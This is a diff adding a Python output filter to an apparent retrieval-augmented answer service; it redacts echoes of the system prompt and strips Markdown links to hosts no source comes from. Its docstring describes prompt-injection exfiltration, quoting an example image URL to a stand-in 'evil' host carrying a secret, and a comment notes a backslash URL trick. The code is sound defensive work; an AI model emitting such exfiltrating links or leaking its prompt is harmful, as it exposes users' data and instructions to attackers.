@@ -1,0 +1,282 @@
+"""What an answer must not carry to its reader, whatever a hostile document made the LLM write.
+
+The prompt asks the model to treat sources as data; this module makes two outcomes hold even
+when it does not:
+
+- the system prompt is not repeated: a run of `ECHO_WORDS` or more of its words, in its order
+  (case and punctuation aside), becomes `REDACTED`;
+- nothing in the answer fetches or links to a host that no source comes from (the way a
+  document's injected text exfiltrates what the model knows: `![](https://evil/?q=secret)` is
+  fetched by any Markdown renderer as it draws the answer). Markdown images and links, inline,
+  `<autolinks>` and reference definitions, keep their URL only if it is http(s) on the host of
+  a source's own location; otherwise a link keeps its text, an image its alt text, and an
+  autolink or a definition goes.
+
+Both run on the stream (the answer job's coalesced batches), so that every `token` event, the
+`done` answer and /job-status carry the same clean text. Each holds back only the tail that may
+still turn out to be an echo or a link (usually nothing, at most a paragraph), so each batch
+costs one scan of itself and of that tail.
+"""
+
+from __future__ import annotations
+
+import functools
+import re
+from collections.abc import AsyncIterator, Sequence
+from dataclasses import dataclass
+from urllib.parse import urlsplit
+
+from rag_async.domain.sources import Source
+from rag_async.providers.llm.prompt import SYSTEM_PROMPT
+
+ECHO_WORDS = 10  # shorter runs occur in honest answers ("could not find it in the documents")
+REDACTED = "[redacted]"
+
+
+async def screen(batches: AsyncIterator[str], sources: Sequence[Source]) -> AsyncIterator[str]:
+    """The answer's batches with echoes of the system prompt redacted and links to foreign
+    hosts stripped; text held back goes out with a later batch, or at the end."""
+    echo, links = EchoGuard(SYSTEM_PROMPT), LinkGuard(source_hosts(sources))
+    async for batch in batches:
+        if text := links.feed(echo.feed(batch)):
+            yield text
+    if text := links.feed(echo.feed("", final=True), final=True):
+        yield text
+
+
+# --- echoes of the system prompt -------------------------------------------------------------
+
+_WORD = re.compile(r"\w+")
+
+
+@dataclass(frozen=True, slots=True)
+class _Secret:
+    runs: frozenset[tuple[str, ...]]  # every run of ECHO_WORDS words
+    starts: frozenset[tuple[str, ...]]  # every shorter run: what the start of an echo looks like
+    word_starts: frozenset[str]  # every prefix of a word: what a word cut by a batch looks like
+
+
+@functools.cache
+def _secret(text: str) -> _Secret:
+    words = [word.lower() for word in _WORD.findall(text)]
+
+    def runs(n: int) -> set[tuple[str, ...]]:
+        return {tuple(words[i : i + n]) for i in range(len(words) - n + 1)}
+
+    return _Secret(
+        runs=frozenset(runs(ECHO_WORDS)),
+        starts=frozenset().union(*(runs(n) for n in range(1, ECHO_WORDS))),
+        word_starts=frozenset(word[:k] for word in words for k in range(1, len(word) + 1)),
+    )
+
+
+class EchoGuard:
+    """Redacts, from text fed in pieces, every run of `ECHO_WORDS` or more words of `secret`."""
+
+    def __init__(self, secret: str) -> None:
+        self._secret = _secret(secret)
+        self._pending = ""
+        self._in_word = False  # the text given out so far ends inside a word
+
+    def feed(self, text: str, *, final: bool = False) -> str:
+        """The text that is now known to be clean (all of it when `final`)."""
+        pending = self._pending + text
+        words = list(_WORD.finditer(pending))
+        keys = [word.group().lower() for word in words]
+        if self._in_word and words and words[0].start() == 0:
+            keys[0] = ""  # the end of a word given out already: not a word of the secret
+        complete = len(words)
+        if not final and words and words[-1].end() == len(pending):
+            complete -= 1  # the last word may go on in the next piece
+        runs, out = self._secret.runs, []
+        given = i = 0
+        hold = len(pending)
+        while i + ECHO_WORDS <= complete:
+            if tuple(keys[i : i + ECHO_WORDS]) not in runs:
+                i += 1
+                continue
+            end = i + ECHO_WORDS  # the echo's words are i..end-1; see how far it goes
+            while end < complete and tuple(keys[end + 1 - ECHO_WORDS : end + 1]) in runs:
+                end += 1
+            if end == complete and not final:
+                hold = words[i].start()  # it may go on in the next piece
+                break
+            out += [pending[given : words[i].start()], REDACTED]
+            given, i = words[end - 1].end(), end
+        else:
+            if not final:
+                hold = self._start_of_echo(pending, words, keys, i, complete)
+        out.append(pending[given:hold])
+        self._pending = pending[hold:]
+        self._in_word = hold == len(pending) and bool(_WORD.match(pending[-1:]))
+        return "".join(out)
+
+    def _start_of_echo(
+        self, pending: str, words: list[re.Match[str]], keys: list[str], i: int, complete: int
+    ) -> int:
+        """Where the tail that may begin an echo starts (the end of `pending` if none does):
+        the longest run of the last words, from `i` on, that is the start of one."""
+        for k in range(i, complete):
+            if tuple(keys[k:complete]) in self._secret.starts:
+                return words[k].start()
+        if complete < len(words) and keys[complete] in self._secret.word_starts:
+            return words[complete].start()
+        return len(pending)
+
+
+# --- links and images ------------------------------------------------------------------------
+
+
+def source_hosts(sources: Sequence[Source]) -> frozenset[str]:
+    """The hosts of the sources' own http(s) locations: the only ones an answer may link to."""
+    return frozenset(host for s in sources if (host := _http_host(s.source or "")))
+
+
+# A link or an image starts at "[" or "![", an autolink at "<"; a "!" or "<" ending the text
+# may start one once the next piece comes.
+_OPENER = re.compile(r"!?\[|<(?=[A-Za-z]|\Z)|!\Z")
+_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*)>")
+_AUTOLINK_START = re.compile(r"<(?:[A-Za-z][A-Za-z0-9+.\-]{0,31}(?::[^\s<>]*)?)?\Z")
+_BLANK_LINE = re.compile(r"\n[ \t]*\n")  # no link, image or definition spans one
+_TITLE = re.compile(r'"[^"]*"|\'[^\']*\'|\([^()]*\)', re.DOTALL)
+_URL_FIRST = re.compile(r"\s*<?((?:[A-Za-z][A-Za-z0-9+.\-]*:|//)[^\s<>]*)")
+_HOLD = ("", -1)  # what `_link_at` says when a link may still be coming
+
+
+class LinkGuard:
+    """Strips, from text fed in pieces, the Markdown links and images to hosts not in `hosts`."""
+
+    def __init__(self, hosts: frozenset[str]) -> None:
+        self._hosts = hosts
+        self._pending = ""
+
+    def feed(self, text: str, *, final: bool = False) -> str:
+        """The text that is now known to be clean (all of it when `final`)."""
+        pending = self._pending + text
+        out, hold = _unlinked(pending, self._hosts, final)
+        self._pending = pending[hold:]
+        return out
+
+
+def _unlinked(text: str, hosts: frozenset[str], final: bool) -> tuple[str, int]:
+    """`text` cleaned up to where a link may still be unfinished, and that place."""
+    out: list[str] = []
+    i = 0
+    while opener := _OPENER.search(text, i):
+        start = opener.start()
+        out.append(text[i:start])
+        token = opener.group()
+        if token == "<":
+            autolink = _AUTOLINK.match(text, start)
+            if autolink:
+                out.append(autolink.group() if _allowed(autolink.group(1), hosts) else "")
+                i = autolink.end()
+                continue
+            if not final and _AUTOLINK_START.match(text, start):
+                return "".join(out), start
+        elif token == "!" and not final:  # the last character: an image may follow
+            return "".join(out), start
+        found = None if token in ("<", "!") else _link_at(text, start, hosts, final)
+        if found is _HOLD:
+            return "".join(out), start
+        if found is not None:
+            out.append(found[0])
+            i = found[1]
+        else:  # plain brackets: what they hold is still looked at
+            out.append(token)
+            i = opener.end()
+    out.append(text[i:])
+    return "".join(out), len(text)
+
+
+def _link_at(text: str, start: int, hosts: frozenset[str], final: bool) -> tuple[str, int] | None:
+    """At a "[" or "![": the clean form of the link, image or definition that starts there and
+    where it ends, `_HOLD` if one may still be coming, None if there is none."""
+    image = text[start] == "!"
+    opening = start + image
+    may_grow = not final and not _BLANK_LINE.search(text, start)
+    close = _closing(text, opening, "[", "]")
+    if close < 0 or close + 1 == len(text):
+        return _HOLD if may_grow else None
+    if text[close + 1] == "(":  # an inline link or image
+        end = _closing(text, close + 1, "(", ")")
+        if end < 0 and may_grow:
+            return _HOLD
+        if end < 0:  # unbalanced by our count, yet a renderer may still see a link: no URL
+            first = _URL_FIRST.match(text, close + 2)
+            if first and not _allowed(first.group(1), hosts):
+                return text[start : close + 2], first.end()
+            return None
+        url = _target(text[close + 2 : end])
+        if url is None:
+            return None  # "[1](page 3)" is text
+        label = _unlinked(text[opening + 1 : close], hosts, final=True)[0]
+        if _allowed(url, hosts):
+            return f"{text[start:opening]}[{label}]{text[close + 1 : end + 1]}", end + 1
+        return label, end + 1
+    if text[close + 1] == ":" and not image and _starts_line(text, start):  # a definition
+        end = text.find("\n", close)
+        if end >= 0 and not text[close + 2 : end].strip():
+            end = text.find("\n", end + 1)  # its URL may be on the next line
+        if end < 0 and not final:
+            return _HOLD
+        end = len(text) if end < 0 else end + 1
+        url = _target(text[close + 2 : end])
+        if url and not _allowed(url, hosts):
+            return "", end
+    return None
+
+
+def _closing(text: str, at: int, opening: str, closing: str) -> int:
+    """The index of the bracket closing the one at `at` (nested pairs and backslash escapes
+    skipped), or -1."""
+    depth, i = 0, at
+    while i < len(text):
+        char = text[i]
+        if char == "\\":
+            i += 1
+        elif char == opening:
+            depth += 1
+        elif char == closing:
+            depth -= 1
+            if depth == 0:
+                return i
+        i += 1
+    return -1
+
+
+def _target(inside: str) -> str | None:
+    """The URL in a link's parentheses, or after a definition's colon: a destination (`<url>`
+    or one word) and maybe a title. None if `inside` is not that, unless it starts with
+    something like a URL all the same."""
+    inside = inside.strip()
+    if inside.startswith("<"):
+        url, _, rest = inside[1:].partition(">")
+    else:
+        url, *more = inside.split(maxsplit=1) or [""]
+        rest = more[0] if more else ""
+    rest = rest.strip()
+    if not rest or _TITLE.fullmatch(rest) or _URL_FIRST.match(url):
+        return url
+    return None
+
+
+def _starts_line(text: str, at: int) -> bool:
+    line_start = text.rfind("\n", 0, at) + 1
+    return at - line_start <= 3 and not text[line_start:at].strip()
+
+
+def _allowed(url: str, hosts: frozenset[str]) -> bool:
+    # A backslash is a slash to a browser but not to urlsplit: "https://evil\\@good" would
+    # pass for good and go to evil.
+    return "\\" not in url and _http_host(url) in hosts
+
+
+def _http_host(url: str) -> str | None:
+    """The host of an http(s) URL (lowercase), None for anything else."""
+    try:
+        parts = urlsplit(url.strip())
+        host = parts.hostname
+    except ValueError:  # e.g. a malformed IPv6 host
+        return None
+    return host if parts.scheme.lower() in ("http", "https") else None
